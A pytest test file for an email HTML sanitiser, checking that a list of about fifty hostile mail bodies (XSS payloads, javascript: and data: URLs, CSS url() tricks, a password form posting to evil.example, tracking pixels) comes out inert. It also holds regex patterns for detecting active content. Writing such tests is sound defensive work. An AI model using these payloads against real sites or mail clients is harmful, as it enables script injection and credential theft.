"""Hostile mail bodies: nothing of them survives that runs, asks for something outside, or leaves its place."""

import re
import time

import pytest

from conversations.mail_html import DEEPEST, page, safe_style, sanitise
from conversations.mail_text import text_of

DOT = "data:image/png;base64,iVBORw0KGgo="
FORBIDDEN_TAGS = re.compile(
    r"<\s*/?(script|style|link|meta|base|iframe|frame|object|embed|applet|form|input|button|select|option|textarea|svg|"
    r"math|template|noscript|video|audio|source|track|body|html|head|title|xmp|plaintext|foreignobject|animate|set)\b",
    re.IGNORECASE,
)
ACTIVE = re.compile(
    r"javascript:|vbscript:|data:(?!image/(png|jpeg|gif|webp);base64,)|\son\w+\s*=|url\s*\(|@import|expression\s*\(|"
    r"srcset|srcdoc|formaction|xlink|background=|behavior|-moz-binding|https?://[^\"]*evil|//evil",
    re.IGNORECASE,
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a 2x" src=//evil.example/b>',
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a><a href="//evil.example">x</a><a href="/logout/">x</a><a href="file:///etc/passwd">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example)}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background-color:url(https://evil.example/x);color:red">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<p style="\\62ackground:u\\72l(//evil.example)">x</p>',
    "<p style=\"font-family:'x';behavior:url(x)\">x</p>",
    '<p style="width:calc(1px);position:fixed;inset:0;z-index:9">x</p>',
    '<p style="list-style:url(//evil.example);border-image:url(x);content:url(x);cursor:url(x),auto">x</p>',
    '<p style="color:red}</style><script>alert(1)</script>">x</p>',
    '<table background="https://evil.example/x"><td background=//evil.example/y>x</table>',
    '<object data="https://evil.example/x.swf"><embed src="//evil.example"></object>',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button formaction=//evil.example>Go</button></form>',
    "<video src=//evil.example autoplay onplay=alert(1)></video><audio src=//evil.example></audio>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<p onclick=alert(1) ONMOUSEOVER =alert(1) on\nload=alert(1)>x</p>",
    '<a href="https://ok.example" onclick="alert(1)" target="_top" style="pointer-events:none">x</a>',
    "<x><isindex><marquee onstart=alert(1)>x</marquee><details ontoggle=alert(1) open>x</details></x>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    '<img src="cid:a" onerror="alert(1)"><img src=\'cid:"><script>alert(1)</script>\'>',
    "<div><!-- --!><script>alert(1)</script> --></div>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
]


def clean(html: str) -> str:
    return sanitise(html, lambda content_id: DOT if content_id == "a" else "")


def outside_of_text(html: str) -> str:
    """The tags of the result, without the texts between them."""
    return "".join(re.findall(r"<[^>]*>", html))


def in_order(html: str) -> str:
    """With the attributes of each tag sorted."""
    return re.sub(r"<\w[^>]*>", lambda tag: " ".join(sorted(re.findall(r'[\w-]+="[^"]*"|\w+', tag.group()))), html)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_survives(html: str) -> None:
    tags = outside_of_text(clean(f"<p>before</p>{html}"))
    assert not FORBIDDEN_TAGS.search(tags), tags
    assert not ACTIVE.search(tags), tags
    assert in_order(clean(clean(html))) == in_order(clean(html))  # a second reading finds nothing else in it


def test_what_dresses_a_mail_stays() -> None:
    html = (
        '<table width="600" bgcolor="#fff"><tr><td style="color: #333; padding:4px 8px; position:fixed" colspan=2>'
        '<b>Hello</b> <a href="https://shop.example/?a=1&amp;b=2">Shop</a> <img src="cid:a" alt="Logo">'
        "</td></tr></table>"
    )
    made = clean(html)
    assert '<td style="color: #333; padding: 4px 8px" colspan="2">' in made
    assert f'<img src="{DOT}" alt="Logo">' in made
    link = re.search(r"<a [^>]*>", made)
    assert link
    assert 'href="https://shop.example/?a=1&amp;b=2"' in link.group()
    assert 'target="_blank"' in link.group()
    assert 'rel="noopener noreferrer nofollow"' in link.group()


def test_pictures_come_from_the_mail_only() -> None:
    assert clean(f'<img src="{DOT}">') == f'<img src="{DOT}">'
    assert clean('<img src="https://tracker.example/1.gif" alt="Chart">') == '<img alt="Chart">'
    large = "data:image/png;base64," + "A" * 300_000
    assert "src" not in clean(f'<img src="{large}">')
    assert "src" not in clean('<img src="cid:missing">')


def test_a_picture_cannot_break_out_of_its_place() -> None:
    made = sanitise('<img src="cid:a">', lambda content_id: 'x"><script>alert(1)</script>')
    assert "<script" not in made


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red", "color: red"),
        ("COLOR: RGB(1, 2, 3); margin:0 auto !important", "color: RGB(1, 2, 3); margin: 0 auto !important"),
        ("font-family:'A, B', serif", "font-family: 'A, B', serif"),
        ("background-color:url(x)", ""),
        ("color:red/**/;display:none;position:absolute", ""),
        ("width:var(--x);height:calc(1px)", ""),
        ("color:\\72 ed", ""),
    ],
)
def test_declarations_are_kept_by_a_list(style: str, kept: str) -> None:
    assert safe_style(style) == kept


def test_broken_markup_is_closed_within_its_place() -> None:
    made = clean("<div><p>One<p>Two<b>bold</div></table></div></body>Three<li>x<i>y")
    assert made == "<div><p>One</p><p>Two<b>bold</b></p></div>Three<li>x<i>y</i></li>"


@pytest.mark.parametrize(
    "unit", ["<div>", "<b>", "<table><tr><td>", "<", "&", "<a x='", "<p><font color=1>", "<blockquote>x"]
)
def test_depth_and_mass_cost_little(unit: str) -> None:
    started = time.process_time()
    made = clean(unit * (400_000 // len(unit)))
    assert time.process_time() - started < 5
    assert len(re.findall("<div>", made)) <= DEEPEST


def test_a_page_without_formatting_shows_the_text() -> None:
    made = page("", "1 < 2\n<script>alert(1)</script>", lambda content_id: "")
    assert '<div class="plain" dir="auto">1 &lt; 2\n&lt;script&gt;alert(1)&lt;/script&gt;</div>' in made


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello</p><p>World</p>", "Hello\n\nWorld"),
        ("Line one<br>Line   two<br><br>Three", "Line one\nLine two\n\nThree"),
        ("<ul><li>One<li>Two</ul>", "- One\n- Two"),
        ('<a href="https://shop.example/pay">Pay now</a>.', "Pay now <https://shop.example/pay>."),
        ('<a href="https://shop.example/">shop.example</a>', "shop.example"),
        ("<head><title>T</title><style>p{}</style></head><body>B<script>s</script></body>", "B"),
        ("<table><tr><td>A</td><td>B</td></tr><tr><td>C</td></tr></table>", "A B\nC"),
        ("Tom &amp; Ann &lt;3 &#x20ac;5 a < b", "Tom & Ann <3 €5 a < b"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ('<img alt="Logo" src=x> Hi', "Logo Hi"),
        ("", ""),
    ],
)
def test_the_text_of_a_formatted_mail(html: str, text: str) -> None:
    assert text_of(html) == text


def test_a_long_body_says_that_it_was_cut() -> None:
    made = page("<p>word</p>" * 100_000, "", lambda content_id: "")
    assert "The rest is not shown" in made
